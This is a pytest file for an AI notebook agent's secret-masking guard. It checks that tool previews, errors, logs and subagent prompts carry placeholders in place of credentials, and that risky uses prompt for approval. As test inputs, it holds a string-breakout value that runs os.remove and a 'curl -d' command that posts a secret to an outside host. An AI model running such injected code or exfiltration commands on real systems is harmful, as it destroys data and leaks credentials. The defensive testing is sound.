"""The edge around each tool: who sees placeholders, who sees values, and what is refused or asked about."""

from __future__ import annotations

import dataclasses
from typing import Any

import pytest

from nbagent.core.errors import ToolError
from nbagent.core.policy import Mode, decision_of
from nbagent.core.ports import Preview
from nbagent.core.rules import Rule
from nbagent.core.tools import Call, Kind, Tool, tool
from nbagent.tools.guarded import guarded
from nbagent.tools.vault import Vault
from tests.core.rig import play
from tests.privacy.planted import vault

KEY = "ghp_" + "a1B2c3D4e5F6" * 3
ODD = "x'; import os; os.remove('a') #"


def shown(box: Vault, value: str = KEY) -> str:
    return box.mask(f'password = "{value}"').split('"')[1]


def made(name: str = "run", kind: Kind = Kind.RUN_CELL, ran: list[str] | None = None) -> Tool:
    async def function(call: Call, code: str) -> str:
        call.progress(f"with {code}")
        if ran is not None:
            ran.append(code)
        if "fail" in code:
            raise ToolError(f"no such thing: {code}")
        return f"did {code}"

    return tool(
        name=name, kind=kind, subject="code", title=lambda g: f"run {g['code']}", exact=True, amend="code",
        preview=lambda g: Preview("code", g["code"], old=g["code"], effects=(f"writes {g['code']}",)),
    )(function)  # fmt: skip


async def run(one: Tool, code: str) -> str:
    said: list[str] = []

    async def nobody(_: Any) -> str:
        return ""

    result = await one.run(Call("1", said.append, nobody), one.validate({"code": code}))
    return "\n".join([*said, *(block["text"] for block in result.content)])


async def test_the_value_runs_and_everything_that_comes_back_has_the_placeholder() -> None:
    box, ran = vault(), list[str]()
    one, mark = guarded(made(ran=ran), box), shown(box := vault())
    one = guarded(made(ran=ran), box)
    assert await run(one, f"x = '{mark}'") == f"with x = '{mark}'\ndid x = '{mark}'"
    assert ran == [f"x = '{KEY}'"]
    with pytest.raises(ToolError) as failed:
        await run(one, f"fail {mark}")
    assert KEY not in str(failed.value) and mark in str(failed.value)


def test_people_see_the_placeholder_with_a_hint_and_rules_see_the_value() -> None:
    box = vault()
    one, given = guarded(made(), box), {"code": f"x = '{shown(box)}'"}
    preview = one.preview(given)
    for text in (preview.body, preview.old, *preview.effects, one.title(given)):
        assert KEY not in text
    assert preview.body == given["code"]
    assert any("puts back a secret" in hint and f"{len(KEY)} characters" in hint for hint in preview.effects)
    assert one.subject(given) == f"x = '{KEY}'"
    exact = Rule.parse("deny", f"run(x = '{KEY}')")
    assert decision_of(Mode.BYPASS, [exact], one, given).action == "deny"


@pytest.mark.parametrize("kind", [Kind.SHELL, Kind.RISKY_CODE])
def test_a_secret_that_would_leave_is_asked_about_in_every_mode(kind: Kind) -> None:
    box = vault()
    one = guarded(made(kind=kind), box)
    assert decision_of(Mode.BYPASS, [], one, {"code": f"curl -d {shown(box)} x.y"}).action == "ask"
    assert decision_of(Mode.BYPASS, [], one, {"code": "curl x.y"}).action == "allow"


def test_a_value_that_could_be_read_as_code_is_asked_about_in_every_mode_and_says_so() -> None:
    box = vault()
    box.learn(ODD, "the value of PASSWORD")
    one, given = guarded(made(), box), {"code": f"x = '{box.mask(ODD)}'"}
    assert "⟦" in given["code"]
    assert decision_of(Mode.BYPASS, [Rule.parse("allow", "run")], one, given).action == "ask"
    assert any("could be read as code" in hint for hint in one.preview(given).effects)


@pytest.mark.parametrize("name", ["mcp__mail__send", "remember", "skill", "read_mcp_resource"])
def test_servers_notes_and_skills_get_no_secret(name: str) -> None:
    box = vault()
    with pytest.raises(ToolError, match="is not given to"):
        guarded(made(name), box).validate({"code": f"x {shown(box)}"})


async def test_a_subagents_prompt_keeps_the_placeholder() -> None:
    box, ran = vault(), list[str]()
    await run(guarded(made("task", ran=ran), box), f"use {shown(box)}")
    assert ran == [f"use {shown(box)}"]


@pytest.mark.parametrize("text", ["x = '<hidden secret>'", "k = '<hidden: looks like a secret>'", "⟦secret:0badc0de⟧"])
def test_what_stands_for_nothing_that_can_be_put_back_is_refused_before_anybody_is_asked(text: str) -> None:
    with pytest.raises(ToolError, match="nothing was done"):
        guarded(made(), vault()).validate({"code": text})


async def test_hooks_logs_and_transcript_of_a_run_have_no_secret() -> None:
    from nbagent.core.session import Session
    from tests.core.rig import Rig

    rig, box = Rig(), vault()
    session = Session("s1", system=f"be good {KEY}", tools=rig.tools().params(), store=rig.store, mask=box.masked)
    from nbagent.models.scripted import call

    await play(call("look", what=KEY), "done", rig=rig, session=session)
    of_model = [r for r in rig.store.records if (r.get("message") or {}).get("role") == "assistant"]
    assert KEY not in str([r for r in rig.store.records if r not in of_model])
    assert KEY not in session.system


@pytest.mark.parametrize("kind", [Kind.EDIT_CELL, Kind.WRITE_FILE, Kind.RUN_CELL])
def test_a_secret_that_comes_to_where_it_was_not_is_asked_about_whatever_rules_allow(kind: Kind) -> None:
    """A file that the model reads may name a placeholder, so that the value would be written where others read it."""
    box = vault()
    given, rules = {"code": f"see {shown(box)}"}, [Rule.parse("allow", "run")]
    held = dataclasses.replace(made(kind=kind), preview=lambda g: Preview("diff", g["code"], old=f"was {KEY}"))
    fresh = dataclasses.replace(made(kind=kind), preview=lambda g: Preview("code", g["code"]))
    assert decision_of(Mode.ACCEPT_EDITS, rules, guarded(fresh, box), given).action == "ask"
    assert "secret" in decision_of(Mode.ACCEPT_EDITS, rules, guarded(fresh, box), given).rule
    assert decision_of(Mode.ACCEPT_EDITS, rules, guarded(held, box), given).action == "allow", "an edit around it"
    assert decision_of(Mode.ACCEPT_EDITS, rules, guarded(fresh, box), {"code": "x"}).action == "allow"


def test_a_name_that_is_also_a_field_of_ours_hides_no_secret_below_it() -> None:
    assert KEY not in str(vault().masked({"properties": {"id": {"description": f"password = {KEY!r}"}}}))
